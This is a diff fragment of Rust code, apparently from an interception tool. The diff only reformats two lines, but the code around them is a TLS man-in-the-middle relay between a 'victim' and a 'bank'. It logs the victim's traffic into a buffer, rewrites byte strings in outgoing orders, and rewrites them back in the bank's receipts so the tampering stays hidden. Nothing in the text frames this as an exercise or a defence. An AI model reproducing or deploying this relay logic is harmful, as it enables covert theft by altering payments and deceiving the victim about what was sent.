@@ -49,16 +49,14 @@ impl Interceptor {
         let server = tls_server(tls, move |victim| {
             let (connector, name, pen) = (connector.clone(), name.clone(), pen.clone());
             async move {
-                let bank =
-                    connector.connect(name, TcpStream::connect(address).await?).await?;
+                let bank = connector.connect(name, TcpStream::connect(address).await?).await?;
                 let (mut victim_in, mut victim_out) = tokio::io::split(victim);
                 let (mut bank_in, mut bank_out) = tokio::io::split(bank);
                 let order = |bytes: &[u8]| {
                     lock(&pen).extend_from_slice(bytes);
                     replace_bytes(bytes, from.as_bytes(), to.as_bytes())
                 };
-                let receipt =
-                    |bytes: &[u8]| replace_bytes(bytes, to.as_bytes(), from.as_bytes());
+                let receipt = |bytes: &[u8]| replace_bytes(bytes, to.as_bytes(), from.as_bytes());
                 let up = relay(&mut victim_in, &mut bank_out, order);
                 let down = relay(&mut bank_in, &mut victim_out, receipt);
                 tokio::try_join!(up, down).map(|_| ())
